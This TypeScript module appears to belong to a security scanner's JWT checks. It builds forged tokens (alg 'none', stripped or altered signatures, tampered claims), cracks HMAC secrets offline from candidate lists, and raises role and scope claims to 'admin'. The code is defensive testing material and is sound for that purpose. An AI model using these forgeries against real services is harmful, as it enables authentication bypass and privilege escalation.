// JSON Web Token helpers for the JWT checks: decode, alter and re-sign tokens, and try an HMAC
// secret offline. Pure (node:crypto only); nothing here sends a request.
import { createHmac, timingSafeEqual } from 'node:crypto';

export interface DecodedJwt {
  readonly header: Record<string, unknown>;
  readonly payload: Record<string, unknown>;
  readonly signingInput: string;
  readonly signature: string;
}

const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

/** Decode a compact JWS, or undefined when it is not one. */
export function decodeJwt(token: string): DecodedJwt | undefined {
  const parts = token.split('.');
  if (parts.length !== 3) return undefined;
  try {
    const header = JSON.parse(Buffer.from(parts[0]!, 'base64url').toString('utf8')) as unknown;
    const payload = JSON.parse(Buffer.from(parts[1]!, 'base64url').toString('utf8')) as unknown;
    if (!header || typeof header !== 'object' || !payload || typeof payload !== 'object') return undefined;
    if (typeof (header as Record<string, unknown>).alg !== 'string') return undefined;
    return { header: header as Record<string, unknown>, payload: payload as Record<string, unknown>, signingInput: `${parts[0]}.${parts[1]}`, signature: parts[2]! };
  } catch {
    return undefined;
  }
}

/** An unsigned token with `alg` set to one spelling of none. */
export function withAlgNone(jwt: DecodedJwt, spelling = 'none', payload: Record<string, unknown> = jwt.payload): string {
  return `${b64({ ...jwt.header, alg: spelling })}.${b64(payload)}.`;
}

/** The same header and payload with no signature at all. */
export function withoutSignature(jwt: DecodedJwt): string {
  return `${jwt.signingInput}.`;
}

/** The same token with its signature changed (last characters flipped), so it no longer verifies. */
export function withAlteredSignature(jwt: DecodedJwt): string {
  const sig = Buffer.from(jwt.signature, 'base64url');
  if (sig.length === 0) return `${jwt.signingInput}.AAAA`;
  for (let i = Math.max(0, sig.length - 4); i < sig.length; i++) sig[i] = sig[i]! ^ 0x5a;
  return `${jwt.signingInput}.${sig.toString('base64url')}`;
}

/** Header and payload changed, old signature kept: accepted only if the server never verifies. */
export function withClaimsKeepSignature(jwt: DecodedJwt, payload: Record<string, unknown>): string {
  return `${b64(jwt.header)}.${b64(payload)}.${jwt.signature}`;
}

const HMAC_ALGS: Readonly<Record<string, string>> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };

/** Sign header+payload with an HMAC secret (the token's own HS algorithm, else HS256). */
export function signHmac(header: Record<string, unknown>, payload: Record<string, unknown>, secret: string | Buffer): string {
  const alg = typeof header.alg === 'string' && HMAC_ALGS[header.alg] ? header.alg : 'HS256';
  const input = `${b64({ ...header, alg })}.${b64(payload)}`;
  const sig = createHmac(HMAC_ALGS[alg]!, secret).update(input).digest('base64url');
  return `${input}.${sig}`;
}

/** Try each candidate secret against an HS256/384/512 token; the first that verifies, or undefined. */
export function crackHmacSecret(jwt: DecodedJwt, candidates: Iterable<string>, maxTries = 200_000): string | undefined {
  const hash = HMAC_ALGS[String(jwt.header.alg)];
  if (!hash) return undefined;
  const want = Buffer.from(jwt.signature, 'base64url');
  let tries = 0;
  for (const c of candidates) {
    if (++tries > maxTries) break;
    const got = createHmac(hash, c).update(jwt.signingInput).digest();
    if (got.length === want.length && timingSafeEqual(got, want)) return c;
  }
  return undefined;
}

/** Claims raised for a forged token: role-like claims set to admin, plus scopes. */
export function raisedClaims(payload: Record<string, unknown>): Record<string, unknown> {
  const out: Record<string, unknown> = { ...payload };
  let touched = false;
  for (const k of Object.keys(payload)) {
    if (/^(role|roles|scope|scopes|permissions|groups|is_?admin|admin|type|level|tier)$/i.test(k)) {
      const v = payload[k];
      if (typeof v === 'boolean') out[k] = true;
      else if (Array.isArray(v)) out[k] = [...v, 'admin'];
      else if (typeof v === 'string' && /scope/i.test(k)) out[k] = `${v} admin`;
      else out[k] = 'admin';
      touched = true;
    }
  }
  if (!touched) out.role = 'admin';
  return out;
}

/** A masked secret for evidence: length and first character only. */
export function maskCracked(secret: string): string {
  return `${secret.slice(0, 1)}${'*'.repeat(Math.max(3, secret.length - 1))} (${secret.length} characters)`;
}
